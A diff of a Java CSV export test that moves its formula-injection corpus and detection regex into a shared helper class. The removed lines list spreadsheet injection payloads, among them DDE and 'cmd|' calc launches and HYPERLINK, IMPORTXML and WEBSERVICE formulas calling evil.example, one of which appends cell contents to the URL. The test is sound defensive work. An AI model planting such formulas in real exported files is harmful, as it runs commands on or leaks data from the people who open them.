@@ -8,10 +8,8 @@ import java.io.StringReader;
 import java.math.BigDecimal;
 import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
-import java.util.ArrayList;
 import java.util.List;
 import java.util.Locale;
-import java.util.regex.Pattern;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
 import org.apache.commons.csv.CSVFormat;
@@ -21,30 +19,9 @@ import org.junit.jupiter.api.Test;
 
 class CsvTest {
 
-    /** What a spreadsheet takes for a formula, written down apart from the code under test. */
-    private static final Pattern RUNS = Pattern.compile(
-            "^[\\p{IsWhite_Space}\\p{Cntrl}\\p{Cf}\\p{Z}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*", Pattern.DOTALL);
-
-    private static final List<String> BEGINNINGS = List.of(
-            "=", "+", "-", "@", "\t=", "\r=", "\n=", "\u0000=", " =", "\u00A0=", "\u200B=", "\uFEFF=", "\u202E=",
-            "\u3000=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\t", "\r");
-
-    private static final List<String> ENDINGS = List.of(
-            "1+1",
-            "cmd|' /C calc'!A0",
-            "HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
-            "IMPORTXML(\"https://evil.example\",\"//a\")",
-            "WEBSERVICE(\"https://evil.example\")",
-            "DDE(\"cmd\";\"/C calc\";\"x\")",
-            "SUM(A1:A9)*cmd|'/C calc'!A0",
-            "2+3\",\"=1+1",
-            "1\n=2\r\n=3",
-            "'=1");
-
     @Test
     void runsNothingAndLosesNothing() throws IOException {
-        List<String> corpus = new ArrayList<>();
-        BEGINNINGS.forEach(first -> ENDINGS.forEach(last -> corpus.add(first + last)));
+        List<String> corpus = HostileTexts.all();
         long run = 0;
         long changed = 0;
         for (Locale where : List.of(Locale.US, Locale.GERMANY)) {
@@ -55,7 +32,7 @@ class CsvTest {
                     .isEqualTo(3));
             for (int i = 0; i < corpus.size(); i++) {
                 String cell = rows.get(i + 1).get(1);
-                run += RUNS.matcher(cell).matches() ? 1 : 0;
+                run += HostileTexts.RUNS.matcher(cell).matches() ? 1 : 0;
                 changed += without(cell).equals(corpus.get(i).replace("\u0000", "")) ? 0 : 1;
             }
         }
@@ -77,7 +54,7 @@ class CsvTest {
         assertThat(rows).hasSize(cells.size() + 1);
         for (int i = 0; i < cells.size(); i++) {
             String cell = rows.get(i + 1).get(0);
-            assertThat(RUNS.matcher(cell).matches()).as(cell).isFalse();
+            assertThat(HostileTexts.RUNS.matcher(cell).matches()).as(cell).isFalse();
             // What is no text, half of a pair of surrogates, becomes a question mark in any encoding.
             String written = new String(
                     cells.get(i).replace("\u0000", "").getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
